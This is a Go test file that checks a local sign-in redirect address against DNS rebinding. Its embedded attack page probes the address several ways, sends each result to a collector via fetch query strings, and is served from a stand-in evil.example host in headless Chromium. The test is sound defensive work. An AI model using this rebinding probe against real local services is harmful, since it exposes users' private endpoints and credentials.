package redirect

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/vaultbar/vaultbar/vaultcore/testkit/testenv"
)

// evilPage knows the address, and asks for it in all ways that a page has: as its own
// site, whose name leads to this machine by now; by the name that the address has; and
// by having the browser go there. It tells what it got.
const evilPage = `<!doctype html><body><script>
const path = %q, direct = %q, told = %q
const tell = text => fetch(told + "?" + encodeURIComponent(text), {mode: "no-cors"})
const tries = {
  own: () => fetch(path).then(r => r.status + " " + r.url),
  ownManual: () => fetch(path, {redirect: "manual"}).then(r => r.type + " " + r.status),
  plain: () => fetch(direct, {mode: "no-cors"}).then(r => r.type),
  cors: () => fetch(direct).then(r => r.text()),
  image: () => new Promise(done => { const i = new Image(); i.onload = () => done("loaded"); i.onerror = () => done("error"); i.src = direct }),
  frame: () => new Promise(done => { const f = document.createElement("iframe"); f.onload = () => { let at = "closed"; try { at = f.contentWindow.location.href } catch {} done(at) }; f.src = path; document.body.append(f) }),
  script: () => new Promise(done => { const s = document.createElement("script"); s.onload = () => done("loaded"); s.onerror = () => done("error"); s.src = direct; document.body.append(s) }),
  beacon: async () => String(navigator.sendBeacon(direct, "x")),
};
(async () => {
  await fetch("/rebind")
  for (const [name, go] of Object.entries(tries)) {
    let got = "nothing"
    try { got = await Promise.race([go(), new Promise(r => setTimeout(r, 5000, "no answer"))]) } catch (e) { got = "refused" }
    await tell(name + ": " + got)
  }
  addEventListener("pagehide", () => navigator.sendBeacon(told + "?left"))
  location = direct
})()
</script>`

// rebound is a site that an attacker has: once its page has loaded, its name leads to
// the listener, as a name server would have it. For a browser the two are one.
type rebound struct {
	net.Listener
	victim string
	gone   atomic.Bool // the name leads to the victim
}

// Accept hands over what is still the attacker's, and passes on the rest.
func (r *rebound) Accept() (net.Conn, error) {
	for {
		conn, err := r.Listener.Accept()
		if err != nil || !r.gone.Load() {
			return conn, err
		}
		there, err := net.Dial("tcp", r.victim)
		if err != nil {
			_ = conn.Close()
			continue
		}
		go func() { _, _ = io.Copy(there, conn); _ = there.Close() }()
		go func() { _, _ = io.Copy(conn, there); _ = conn.Close() }()
	}
}

// A page whose site's name is rebound to this machine gets nothing of the address,
// though it knows it, and does not use it up.
func TestRebinding(t *testing.T) {
	testenv.Time(t)
	chromium := testenv.Program(t, "chromium", "chromium")
	h := mustOpen(t)
	h.lasts()
	_, port, _ := net.SplitHostPort(h.local.Host())
	inner, err := net.Listen("tcp", "127.0.0.2:"+port)
	if err != nil {
		t.Fatal(err)
	}
	said := make(chan string, 64)
	teller := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		text, _ := url.QueryUnescape(r.URL.RawQuery)
		said <- text
	}))
	defer teller.Close()
	site := &rebound{Listener: inner, victim: h.local.Host()}
	evil := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Connection", "close") // the next request looks the name up again
		if r.URL.Path == "/rebind" {
			site.gone.Store(true)
			return
		}
		fmt.Fprintf(w, evilPage, h.path, h.Address(), teller.URL+"/")
	})}
	go func() { _ = evil.Serve(site) }()
	defer func() { _ = evil.Close() }()

	dir, err := os.MkdirTemp("", "rebinding-")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = os.RemoveAll(dir) }() // a child of the browser may still write there while it ends
	browser := exec.Command(chromium, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--user-data-dir="+dir,
		"--disable-background-networking", "--host-resolver-rules=MAP evil.example 127.0.0.2", "--remote-debugging-port=0", "http://evil.example:"+port+"/")
	browser.Env = append(browser.Environ(), "DBUS_SESSION_BUS_ADDRESS=disabled:")
	browser.SysProcAttr = &syscall.SysProcAttr{Setpgid: true} // its children end with it
	if err := browser.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = syscall.Kill(-browser.Process.Pid, syscall.SIGKILL); _ = browser.Wait() }()
	tries, late := 0, time.After(2*time.Minute)
	for done := false; !done; {
		select {
		case got := <-said:
			t.Log(got)
			done = got == "left"
			tries++
			if strings.Contains(got, "signin") || strings.Contains(got, "303") || strings.Contains(got, "redirect") {
				t.Errorf("the page got %s", got)
			}
		case <-late:
			t.Fatal("the page does not come to its end")
		}
	}
	if tries != 9 || h.isUsed() {
		t.Errorf("%d of 9 tries were made, and the address is used: %t", tries, h.isUsed())
	}
	if response, _ := ask(t, h.dial(t), h.get()); response.StatusCode != http.StatusSeeOther {
		t.Errorf("then we got %d", response.StatusCode)
	}
}
